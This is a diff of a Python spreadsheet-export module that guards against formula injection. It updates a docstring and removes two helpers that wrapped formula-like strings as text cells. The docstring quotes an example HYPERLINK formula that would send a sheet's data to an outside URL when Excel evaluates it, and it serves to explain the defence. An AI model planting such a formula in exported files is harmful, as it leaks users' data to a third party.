@@ -3,7 +3,8 @@
 openpyxl turns a string starting with `=` into a formula cell (`<f>`, evaluated by Excel: a title such
 as `=HYPERLINK("http://…?d="&A1)` would send the sheet's data away) and an Excel error code such as
 `#N/A` into an error cell; it refuses a whole workbook over one control character. Every export writes
-its strings through `text_value` / `as_text`, and saves with `files.save_atomically`.
+its strings through `text_value` / `as_text`, and saves with `files.save_atomically`; the event export
+writes with xlsxwriter's `write_string`, which stores any text as a string cell.
 """
 
 from __future__ import annotations
@@ -30,28 +31,6 @@ def text_value(value: Any) -> Any:
 def is_formula_like(value: Any) -> bool:
     """Would openpyxl store this string as something other than text (a formula or an error)?"""
     return isinstance(value, str) and ((len(value) > 1 and value[0] == "=") or value in ERROR_CODES)
-
-
-def write_only_row(sheet: Any, values: Iterable[Any]) -> list[Any]:
-    """A row for a write-only sheet: strings cleaned, formula-like ones wrapped in string cells. The
-    export writes a million rows through this: plain printable text not starting with = or # (nearly
-    every cell) is passed on after two cheap tests."""
-    row = list(values)
-    for index, value in enumerate(row):
-        if type(value) is str and value and (value[0] in "=#" or not value.isprintable()):
-            row[index] = _write_only_text(sheet, value)
-    return row
-
-
-def _write_only_text(sheet: Any, value: str) -> Any:
-    from openpyxl.cell import WriteOnlyCell
-
-    value = text_value(value)
-    if not is_formula_like(value):
-        return value
-    cell = WriteOnlyCell(sheet, value=value)
-    cell.data_type = "s"
-    return cell
 
 
 def append_as_text(sheet: Any, values: Iterable[Any]) -> None:
